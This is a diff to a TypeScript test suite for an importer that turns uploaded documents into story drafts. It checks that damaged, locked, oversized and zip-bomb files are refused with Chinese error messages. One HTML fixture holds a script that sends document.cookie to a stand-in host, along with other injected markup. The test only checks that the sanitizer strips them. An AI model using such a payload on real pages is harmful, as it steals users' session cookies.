@@ -11,16 +11,24 @@ import {
   writeFileSync,
 } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { basename, join } from 'node:path';
 import { deflateRawSync } from 'node:zlib';
-import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
 import { runChecks } from '../../src/checks/run-checks.ts';
 import { listContentPaths, readContentFiles } from '../../scripts/lib/content-files.ts';
 import { unzip, zip } from '../../scripts/lib/import/zip.ts';
 import { projectDir } from '../../scripts/lib/settings.ts';
-import { fixtureContent } from './import-cases.ts';
+import { importFile } from '../../scripts/lib/import/import-file.ts';
+import { readSource } from '../../scripts/lib/import/read-source.ts';
+import { writeDraft } from '../../scripts/lib/import/write-drafts.ts';
+import type { DraftContext } from '../../src/intake/compose-drafts.ts';
+import { createLibrary } from '../../src/library/library.ts';
+import { fixtureContent, showOutcome } from './import-cases.ts';
 import { makePolicyDocx, makeStoryDocx } from './make-docx.ts';
 import { makePdf } from './make-pdf.ts';
+
+/** Each command is a process of its own. */
+vi.setConfig({ testTimeout: 60_000 });
 
 let folder = '';
 let content = '';
@@ -60,7 +68,15 @@ function put(name: string, bytes: Uint8Array | string): string {
 }
 
 const story = '夜校的灯\n\n江口县的夜校每晚七点亮灯，来的人自己带凳子，没有人缺课。\n';
-const importStory = (path: string) => run('import.ts', [path, '--to', 'stories']);
+
+function makeContext(): DraftContext {
+  return { collection: 'stories', library: createLibrary([]), taken: new Set(), today: '2026-11-21' };
+}
+
+/** The reason why a file is not read; the text of its draft where it is. */
+async function readOne(path: string): Promise<string> {
+  return showOutcome(await importFile(basename(path), () => readSource(path), makeContext()));
+}
 
 describe('a draft', () => {
   test.each([
@@ -91,7 +107,7 @@ describe('a draft', () => {
   );
 
   test('is only shown without --write', () => {
-    const { code, out } = importStory(put('a.txt', story));
+    const { code, out } = run('import.ts', [put('a.txt', story), '--to', 'stories']);
     expect(code).toBe(0);
     expect(out).toContain('title: 夜校的灯');
     expect(existsSync(join(content, 'stories'))).toBe(false);
@@ -104,6 +120,16 @@ describe('a draft', () => {
       'ye-xiao-de-deng-2.md',
       'ye-xiao-de-deng.md',
     ]);
+  });
+
+  test('is not written over a file that came up in the meantime', async () => {
+    const outcome = await importFile('a.txt', () => readSource(put('a.txt', story)), makeContext());
+    const [ready] = 'drafts' in outcome ? outcome.drafts : [];
+    if (!ready) throw new Error('no draft');
+    const path = await writeDraft(content, ready);
+    writeFileSync(path, '别人的');
+    await expect(writeDraft(content, ready)).rejects.toThrow('EEXIST');
+    expect(readFileSync(path, 'utf8')).toBe('别人的');
   });
 
   test('brings its pictures', async () => {
@@ -157,73 +183,72 @@ describe('several files', () => {
 describe('bad input is refused with its reason:', () => {
   const oleMark = Buffer.from('d0cf11e0a1b11ae1', 'hex');
 
-  test('an old .doc and a .wps', () => {
-    expect(importStory(put('a.doc', 'x')).out).toContain('另存为 .docx');
-    expect(importStory(put('a.wps', 'x')).out).toContain('另存为 .docx');
-    expect(importStory(put('a.docx', Buffer.concat([oleMark, Buffer.alloc(600)]))).out).toContain(
-      '旧版 .doc',
-    );
+  test('an old .doc and a .wps', async () => {
+    expect(await readOne(put('a.doc', 'x'))).toContain('另存为 .docx');
+    expect(await readOne(put('a.wps', 'x'))).toContain('另存为 .docx');
+    expect(await readOne(put('a.docx', Buffer.concat([oleMark, Buffer.alloc(600)])))).toContain('旧版 .doc');
   });
 
-  test('a docx with a password', () => {
+  test('a docx with a password', async () => {
     const locked = Buffer.concat([oleMark, Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le')]);
-    expect(importStory(put('a.docx', locked)).out).toContain('加了密码');
+    expect(await readOne(put('a.docx', locked))).toContain('加了密码');
   });
 
   test('a damaged docx, cut off or with broken XML', async () => {
     const whole = await makeStoryDocx();
-    expect(importStory(put('a.docx', whole.subarray(0, whole.length / 2))).out).toContain('损坏');
+    expect(await readOne(put('a.docx', whole.subarray(0, whole.length / 2)))).toContain('损坏');
     const parts = new Map([
       ...unzip(whole),
       ['word/document.xml', Buffer.from('<w:document><w:bo')] as const,
     ]);
-    expect(importStory(put('b.docx', zip(parts))).out).toContain('文档损坏，找不到正文');
+    expect(await readOne(put('b.docx', zip(parts)))).toContain('文档损坏，找不到正文');
   });
 
   test('a zip bomb, whatever it says of its own size', async () => {
     const name = 'word/document.xml';
     const parts = unzip(await makeStoryDocx());
+    // Last of all, so that nothing but its own unpacking can stop it.
+    parts.delete(name);
     parts.set(name, Buffer.from('x'));
     const packed = deflateRawSync(Buffer.alloc(300 * 1024 * 1024));
-    const { code, out } = importStory(put('a.docx', replacePacked(zip(parts), name, packed)));
-    expect(code).toBe(1);
-    expect(out).toContain('解压后超过 200 MB');
+    expect(await readOne(put('a.docx', replacePacked(zip(parts), name, packed)))).toContain(
+      '解压后超过 200 MB',
+    );
   });
 
-  test('a scanned PDF, a damaged one', () => {
-    expect(importStory(put('a.pdf', makePdf([[], []]))).out).toContain('扫描件');
-    expect(importStory(put('b.pdf', '%PDF-1.4 nothing')).out).toContain('损坏');
+  test('a scanned PDF, a damaged one', async () => {
+    expect(await readOne(put('a.pdf', makePdf([[], []])))).toContain('扫描件');
+    expect(await readOne(put('b.pdf', '%PDF-1.4 nothing'))).toContain('损坏');
   });
 
-  test('a file of 50 MB', () => {
+  test('a file of 50 MB', async () => {
     const path = put('a.docx', 'PK');
     truncateSync(path, 50 * 1024 * 1024);
-    expect(importStory(path).out).toContain('一次最多读 50.0 MB');
+    expect(await readOne(path)).toContain('一次最多读 50.0 MB');
   });
 
-  test('an empty file and a picture with the ending of a text', () => {
-    expect(importStory(put('a.txt', '')).out).toContain('空的');
-    expect(importStory(put('b.txt', Buffer.from([0x89, 0x50, 0, 0xff, 0xfe, 0xff]))).out).toContain(
+  test('an empty file and a picture with the ending of a text', async () => {
+    expect(await readOne(put('a.txt', ''))).toContain('空的');
+    expect(await readOne(put('b.txt', Buffer.from([0x89, 0x50, 0, 0xff, 0xfe, 0xff])))).toContain(
       '看不出文字的编码',
     );
   });
 });
 
-test('a page with scripts gives its words and nothing of the scripts', () => {
+test('a page with scripts gives its words and nothing of the scripts', async () => {
   const page = `<script>fetch('http://x/' + document.cookie)</script><p onclick="x()">夜校的灯亮着，来的人自己带凳子。</p><iframe src="http://x"></iframe><a href="javascript:x()">坐下</a>`;
-  const { out } = importStory(put('a.html', page));
+  const out = await readOne(put('a.html', page));
   expect(out).toContain('夜校的灯亮着');
   expect(out).not.toMatch(/fetch|onclick|javascript|iframe/);
 });
 
-test('two hundred pages are read', () => {
+test('two hundred pages are read', async () => {
   const line = (page: number) => `第${page}天，江口县的夜校照常亮灯，来的人照旧自己带凳子。`;
   const pages = Array.from({ length: 200 }, (_, page) => [
     { text: line(page + 1), x: 60, y: 700 },
     { text: String(page + 1), x: 290, y: 30 },
   ]);
-  const { code, out } = importStory(put('a.pdf', makePdf(pages)));
-  expect(code).toBe(0);
+  const out = await readOne(put('a.pdf', makePdf(pages)));
   expect(out).toContain('一个不少');
   expect(out).toContain('第200天');
 });
